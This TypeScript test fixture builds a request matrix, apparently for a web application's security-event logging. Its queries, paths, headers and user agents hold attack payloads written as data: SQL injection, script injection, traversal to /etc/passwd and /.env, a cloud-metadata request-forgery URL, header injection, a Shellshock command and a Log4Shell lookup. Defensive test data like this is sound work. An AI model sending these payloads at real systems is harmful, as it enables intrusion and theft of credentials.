/** The requests of the matrix: how each ends, what it asks for, who asks with what. */

/** What the application answers. `user` is whom it knows by then; it tells the active span as well. */
export interface Answer {
  readonly status: number;
  readonly headers?: Readonly<Record<string, string>>;
  readonly json?: object;
  readonly html?: string;
  readonly user?: string;
}

/** How a request ends, and where it goes. */
export interface Ending {
  readonly method: string;
  readonly path: string;
  /** What the application's framework makes of the path; absent where nothing matches. */
  readonly route?: string;
  readonly headers?: Readonly<Record<string, string>>;
  /** Sent as JSON. */
  readonly body?: object;
  readonly answer: Answer;
}

/** Who asks: the other end of the socket, and what the headers say of it. */
export interface Caller {
  /** As `socket.remoteAddress` has it; absent for a Unix socket. */
  readonly peer?: string;
  readonly headers?: Readonly<Record<string, string>>;
}

/** One request of the matrix. */
export interface MatrixRequest {
  readonly name: string;
  readonly ending: Ending;
  /** As it is sent: `ending.path` and a query, or a path in its stead. */
  readonly target: string;
  readonly caller: Caller;
  readonly agent: string | undefined;
}

const login = { method: 'POST', path: '/login', route: '/login' } as const;
const read = { method: 'GET', path: '/orders/42', route: '/orders/:id' } as const;
const found = { status: 200, json: { total: 42 } } as const;
const refused = { status: 401, json: { error: 'wrong password' } } as const;
const filled = { username: 'bob', password: 'hunter2' } as const;

/** How requests end. */
export const ENDINGS: Readonly<Record<string, Ending>> = {
  'login refused': { ...login, body: filled, answer: refused },
  'login refused without a body': { ...login, answer: refused },
  'login forbidden': { ...login, body: filled, answer: { ...refused, status: 403 } },
  'login locked': { ...login, body: filled, answer: { ...refused, status: 423 } },
  'login of nobody there': { ...login, body: filled, answer: { ...refused, status: 404 } },
  'login refused as bad request': { ...login, body: filled, answer: { ...refused, status: 400 } },
  'login limited': { ...login, body: filled, answer: { status: 429 } },
  'login with a field missing': { ...login, body: { username: 'bob' }, answer: { status: 422 } },
  'login led back': {
    ...login,
    body: filled,
    answer: { status: 302, headers: { location: '/login?error=1' } },
  },
  'login led on': {
    ...login,
    body: filled,
    answer: { status: 302, headers: { location: '/', 'set-cookie': 'sid=s3cr3t' } },
  },
  'login led on, user told': {
    ...login,
    body: filled,
    answer: { status: 302, headers: { location: '/', 'set-cookie': 'sid=s3cr3t' }, user: 'bob' },
  },
  'login granted a token': {
    ...login,
    body: filled,
    answer: { status: 200, json: { access_token: 's3cr3t' } },
  },
  'login granted a token, user told': {
    ...login,
    body: filled,
    answer: { status: 200, json: { access_token: 's3cr3t' }, user: 'bob' },
  },
  'login page shown': { ...login, method: 'GET', answer: { status: 200, html: '<form>' } },
  'an account that cannot be made': {
    ...{ method: 'POST', path: '/login/register' },
    body: filled,
    answer: { status: 422 },
  },
  'token refused at its endpoint': {
    ...{ method: 'POST', path: '/oauth/token', route: '/oauth/token' },
    body: { grant_type: 'refresh_token', refresh_token: 's3cr3t' },
    answer: { status: 400, json: { error: 'invalid_grant' } },
  },
  'bearer token refused': {
    ...read,
    headers: { authorization: 'Bearer s3cr3t' },
    answer: { status: 401 },
  },
  'basic password refused': {
    ...read,
    headers: { authorization: `Basic ${Buffer.from('bob:hunter2').toString('base64')}` },
    answer: { status: 401 },
  },
  challenge: { ...read, answer: { status: 401, headers: { 'www-authenticate': 'Bearer' } } },
  'access denied': { ...read, answer: { status: 403 } },
  'access denied, user told': { ...read, answer: { status: 403, user: 'u-42' } },
  'input refused': {
    ...{ method: 'POST', path: '/orders', route: '/orders' },
    body: { amount: 'many' },
    answer: { status: 400 },
  },
  'input refused, elsewhere': {
    ...{ method: 'POST', path: '/orders', route: '/orders' },
    body: { amount: -1 },
    answer: { status: 422 },
  },
  'input with an attack': {
    ...{ method: 'POST', path: '/orders', route: '/orders' },
    body: { note: "1' UNION SELECT name, password FROM users--" },
    answer: { status: 201 },
  },
  'a cookie with an attack': {
    ...read,
    headers: { cookie: 'sid=8f3a; note=1%27%20UNION%20SELECT%20name,password%20FROM%20users--' },
    answer: found,
  },
  'a referrer with an attack': {
    ...read,
    headers: {
      referer: 'https://shop.example/?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E',
    },
    answer: found,
  },
  'limit exceeded': { ...read, answer: { status: 429 } },
  'admin page opened': {
    ...{ method: 'GET', path: '/admin', route: '/admin' },
    answer: { status: 200, html: '<h1>Admin</h1>', user: 'root' },
  },
  'object read': { ...read, answer: found },
  'nothing there': { method: 'GET', path: '/wp-login.php', answer: { status: 404 } },
  'login refused, user named by e-mail address and told': {
    ...login,
    body: { email: ' Alice@Example.com', password: 'hunter2' },
    answer: { ...refused, user: 'alice@example.com' },
  },
  'a method that is not HTTP alone': {
    ...{ method: 'PROPFIND', path: '/orders/42' },
    answer: { status: 403 },
  },
  'a failure': { ...read, answer: { status: 500 } },
};

/** Queries, and what they have in them. */
export const QUERIES: Readonly<Record<string, string>> = {
  none: '',
  clean: '?q=shoes',
  'clean, encoded': '?q=caf%C3%A9%20noir&sort=price%2Casc',
  empty: '?',
  'SQL injection': "?q=1'%20UNION%20SELECT%20name,password%20FROM%20users--",
  'SQL injection, encoded twice': '?q=1%2527%2520OR%2520%25271%2527%253D%25271',
  'script, encoded': '?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E',
  traversal: '?file=../../../../etc/passwd',
  'weak traversal': '?file=../x',
  'weak and strong traversal': '?a=../x&b=..%2F..%2F..%2Fetc%2Fpasswd',
  'operator of a document database': '?user[$ne]=1',
  'request forgery': '?url=http://169.254.169.254/latest/meta-data/',
  'line break': '?next=%0d%0aSet-Cookie:%20sid=1',
  template: '?name=%7B%7B7*7%7D%7D',
  'command in base64': `?q=${Buffer.from('; cat /etc/passwd').toString('base64')}`,
  'e-mail address': '?email=alice@example.com',
  'e-mail address, encoded, capital letters': '?email=Alice%40Example.com',
  'card number': '?card=4111111111111111',
  password: '?password=hunter2',
  'sign in a parameter named for a person': '?alice@example.com=../../../../etc/passwd',
  'sign in a long parameter': `?${'p'.repeat(100)}=../../../../etc/passwd`,
  'SQL injection behind padding': `?pad=${'x'.repeat(9000)}&q=1'%20OR%20'1'='1`,
  'sign in a parameter with a control character': '?p%1b[2J=../../../../etc/passwd',
};

/** Paths in whose stead no route stands. */
export const PATHS: Readonly<Record<string, { readonly path: string; readonly route?: string }>> = {
  'a hidden file': { path: '/.env' },
  'a hidden file, encoded': { path: '/%2eenv' },
  'a traversal': { path: '/static/../../../../etc/passwd' },
  'a traversal, encoded': { path: '/static/..%2f..%2f..%2f..%2fetc%2fpasswd' },
  'an e-mail address': { path: '/users/alice@example.com' },
  'a whole URL': {
    path: 'http://shop.example/search?file=../../../../etc/passwd',
    route: '/search',
  },
};

/** Who asks. */
export const CALLERS: Readonly<Record<string, Caller>> = {
  IPv4: { peer: '203.0.113.9' },
  'IPv4 in IPv6': { peer: '::ffff:203.0.113.9' },
  IPv6: { peer: '2001:db8:1:2:3::9' },
  'IPv6, spelled out': { peer: '2001:DB8:0001:0002:0:0:0:0009' },
  'IPv6 with a zone': { peer: 'fe80::1%eth0' },
  'a private address': { peer: '10.1.2.3' },
  'a Unix socket': {},
  'behind a proxy': { peer: '10.0.0.2', headers: { 'x-forwarded-for': '203.0.113.9' } },
  'behind a proxy of IPv6': {
    peer: 'fd00::2',
    headers: { 'x-forwarded-for': '2001:db8:1:2::9' },
  },
  "from a carrier's network, with a header made up": {
    peer: '100.64.0.9',
    headers: { 'x-forwarded-for': '198.51.100.66' },
  },
  'behind a proxy on this machine': {
    peer: '127.0.0.1',
    headers: { 'x-forwarded-for': '203.0.113.9' },
  },
  'behind a proxy that tells the port': {
    peer: '10.0.0.2',
    headers: { 'x-forwarded-for': '203.0.113.9:4711' },
  },
  'behind a proxy, IPv6 with port': {
    peer: '10.0.0.2',
    headers: { 'x-forwarded-for': '[2001:db8:1:2::9]:4711' },
  },
  'behind a proxy, IPv4 in IPv6': {
    peer: '10.0.0.2',
    headers: { 'x-forwarded-for': '::ffff:203.0.113.9' },
  },
  'behind a proxy, with a zone': {
    peer: '::ffff:10.0.0.2',
    headers: { 'x-forwarded-for': 'fe80::1%eth0' },
  },
  'behind a proxy that hides it': {
    peer: '10.0.0.2',
    headers: { 'x-forwarded-for': 'unknown' },
  },
  'behind a proxy that tells by Forwarded': {
    peer: '10.0.0.2',
    headers: { forwarded: 'for="[2001:db8:1:2::9]:4711";proto=https' },
  },
  'behind a proxy that tells by X-Real-IP': {
    peer: '10.0.0.2',
    headers: { 'x-real-ip': '203.0.113.9' },
  },
  'behind a proxy, a hop made up in front': {
    peer: '10.0.0.2',
    headers: { 'x-forwarded-for': '198.51.100.66, 203.0.113.9' },
  },
  'with a header made up': {
    peer: '203.0.113.9',
    headers: { 'x-forwarded-for': '198.51.100.66' },
  },
  'with a header that is no address': {
    peer: '203.0.113.9',
    headers: { 'x-forwarded-for': 'evil<b>' },
  },
};

/** With what. */
export const AGENTS: Readonly<Record<string, string | undefined>> = {
  none: undefined,
  'a browser': 'Mozilla/5.0 (X11; Linux x86_64; rv:150.0) Gecko/20100101 Firefox/150.0',
  'a library': 'python-requests/2.32.5',
  'a scanner': 'sqlmap/1.8#stable (https://sqlmap.org)',
  'another scanner': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)',
  'a command': '() { :;}; /bin/cat /etc/passwd',
  'a look-up': '${jndi:ldap://x.example/a}',
};

/** Whom the application knows: each is denied, so that there is an event that names them. */
export const USERS: Readonly<Record<string, string>> = {
  plain: 'u-42',
  'capital letters': 'Alice',
  'blanks around': ' alice ',
  'e-mail address': 'alice@example.com',
  'e-mail address, capital letters': 'Alice@Example.com',
  'decomposed letters': 'Jose\u0301',
  'e-mail address, decomposed letters': 'jose\u0301@example.com',
  'a control character': 'al\u001bice',
  'a mark of direction': 'al\u202eice',
  'a card number': '4111111111111111',
  'a password': 'password=hunter2',
  'a name of 300 characters': 'x'.repeat(300),
  'a name of 1100 characters': 'y'.repeat(1100),
};

const of = <Value>(table: Readonly<Record<string, Value>>): readonly (readonly [string, Value])[] =>
  Object.entries(table);

/** The n-th of a table, round and round: dimensions that are not crossed still vary. */
function turn<Value>(table: Readonly<Record<string, Value>>, n: number): readonly [string, Value] {
  const entries = of(table);
  const entry = entries[n % entries.length];
  if (entry === undefined) throw new RangeError('an empty table');
  return entry;
}

/** Every two dimensions crossed that a verdict joins, the others varied: each ending meets each caller, and so on. */
export function matrixRequests(): readonly MatrixRequest[] {
  const requests: MatrixRequest[] = [];
  const add = (
    [endingName, ending]: readonly [string, Ending],
    [targetName, target]: readonly [string, string],
    [callerName, caller]: readonly [string, Caller],
    [agentName, agent]: readonly [string, string | undefined],
  ): void => {
    const name = `${endingName}; ${targetName}; ${callerName}; agent ${agentName}`;
    requests.push({ name, ending, target, caller, agent });
  };
  let n = 0;
  const query = (ending: Ending, [name, text]: readonly [string, string]) =>
    [`query ${name}`, `${ending.path}${text}`] as const;
  for (const ending of of(ENDINGS)) {
    for (const caller of of(CALLERS)) {
      add(ending, query(ending[1], turn(QUERIES, n)), caller, turn(AGENTS, n));
      n += 1;
    }
    for (const each of of(QUERIES)) {
      add(ending, query(ending[1], each), turn(CALLERS, n), turn(AGENTS, n));
      n += 1;
    }
  }
  for (const agent of of(AGENTS)) {
    for (const [name, place] of of(PATHS)) {
      const ending = { ...place, method: 'GET', answer: { status: n % 2 === 0 ? 200 : 404 } };
      add(['elsewhere', ending], [name, place.path], turn(CALLERS, n), agent);
      n += 1;
    }
  }
  for (const [name, user] of of(USERS)) {
    const ending = { ...read, answer: { status: 403, user } };
    add([`denied to ${name}`, ending], ['', read.path], turn(CALLERS, n), ['none', undefined]);
    n += 1;
  }
  return requests;
}
